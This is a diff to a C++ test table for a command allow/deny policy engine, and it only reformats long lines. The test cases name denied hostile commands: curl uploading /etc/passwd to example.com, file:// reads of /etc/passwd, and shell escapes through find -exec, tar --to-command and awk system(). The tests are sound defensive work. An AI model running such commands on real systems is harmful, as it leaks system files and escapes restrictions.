@@ -107,7 +107,8 @@ std::vector<Case> Table() {
   add(Allow({"curl", "-I", "https://orders.app-shop.svc"}, "dev-curl"));
   add(Allow({"curl", "-s", "http://api.app-shop.svc.cluster.local:8080/health"}, "dev-curl"));
   add(Allow({"curl", "-m", "5", "https://orders.app-shop.svc/"}, "dev-curl"));
-  add(Allow({"curl", "-s", "-I", "-m", "10", "https://orders.app-shop.svc/status?q=1"}, "dev-curl"));
+  add(Allow({"curl", "-s", "-I", "-m", "10", "https://orders.app-shop.svc/status?q=1"},
+            "dev-curl"));
   add(Allow({"curl", "--max-time=5", "https://orders.app-shop.svc:8443/readyz"}, "dev-curl"));
   add(Deny({"curl", "https://example.com/"}, "dev-curl", "not among the hosts"));
   add(Deny({"curl", "--max-time", "5", "http://10.0.0.1/"}, "dev-curl", "not among the hosts"));
@@ -138,7 +139,8 @@ std::vector<Case> Table() {
   add(Shell(true, "sre-shell").As("sam", kSre).In("staging", "debug"));
 
   // ---- BRIEF section 7: programs that run programs. ----
-  add(Deny({"find", "/", "-exec", "sh", "-c", "id", ";"}, "deny-program-runners", "find is denied"));
+  add(Deny({"find", "/", "-exec", "sh", "-c", "id", ";"}, "deny-program-runners",
+           "find is denied"));
   add(Deny({"find", ".", "-name", "x"}, "deny-program-runners"));
   add(Deny({"tar", "--to-command=sh", "-xf", "a.tar"}, "deny-program-runners"));
   add(Deny({"awk", "BEGIN{system(\"sh\")}"}, "deny-program-runners"));
@@ -165,9 +167,12 @@ std::vector<Case> Table() {
   add(Deny({"curl", "file:///etc/passwd"}, "deny-curl-writes-and-redirection"));
   add(Deny({"curl", "FILE:///etc/passwd"}, "deny-curl-writes-and-redirection"));
   add(Deny({"curl", "-so", "/tmp/x", "https://example.com"}, "deny-curl-writes-and-redirection"));
-  add(Deny({"curl", "--output", "/tmp/x", "https://example.com"}, "deny-curl-writes-and-redirection"));
-  add(Deny({"curl", "-T", "/etc/passwd", "https://example.com"}, "deny-curl-writes-and-redirection"));
-  add(Deny({"curl", "--upload-file", "/etc/passwd", "https://example.com"}, "deny-curl-writes-and-redirection"));
+  add(Deny({"curl", "--output", "/tmp/x", "https://example.com"},
+           "deny-curl-writes-and-redirection"));
+  add(Deny({"curl", "-T", "/etc/passwd", "https://example.com"},
+           "deny-curl-writes-and-redirection"));
+  add(Deny({"curl", "--upload-file", "/etc/passwd", "https://example.com"},
+           "deny-curl-writes-and-redirection"));
   add(Deny({"curl", "https://example.com", "-o", "x"}, "deny-curl-writes-and-redirection"));
   add(Deny({"curl", "-Iso", "x", "https://example.com"}, "deny-curl-writes-and-redirection"));
   add(Deny({"curl", "gopher://example.com/"}, "deny-curl-writes-and-redirection"));
@@ -189,7 +194,8 @@ std::vector<Case> Table() {
            "argument '-L' is denied for curl"));
   add(Deny({"curl", "-k", "https://a.svc"}, "dev-curl",
            "flag -k is not allowed for curl (rule dev-curl)"));
-  add(Deny({"curl", "-x", "http://proxy:3128", "https://example.com"}, "deny-curl-writes-and-redirection"));
+  add(Deny({"curl", "-x", "http://proxy:3128", "https://example.com"},
+           "deny-curl-writes-and-redirection"));
   add(Deny({"curl", "-H", "Host: x", "https://example.com"}, "dev-curl"));
   add(Deny({"curl", "-I", "--", "https://example.com"}, "dev-curl", "'--' is not allowed"));
   add(Deny({"curl", "https://exa mple.com"}, "dev-curl"));
@@ -352,7 +358,8 @@ std::vector<Case> Table() {
   add(Shell(false, "default-deny").As("pat", kAdmin));
   // ---- Superusers bypass grammars, never explicit denials. ----
   add(Deny({"sh", "-c", "id"}, "deny-program-runners").As("pat", kAdmin));
-  add(Deny({"curl", "-o", "/tmp/x", "http://x"}, "deny-curl-writes-and-redirection").As("pat", kAdmin));
+  add(Deny({"curl", "-o", "/tmp/x", "http://x"}, "deny-curl-writes-and-redirection")
+          .As("pat", kAdmin));
   add(Deny({"jmap", "-dump:file=x", "1"}, "deny-jmap-dump").As("pat", kAdmin));
   add(Deny({"ps", "e"}, "deny-ps-environment").As("pat", kAdmin));
   add(Deny({"./x"}, "default-deny", "relative path").As("pat", kAdmin));
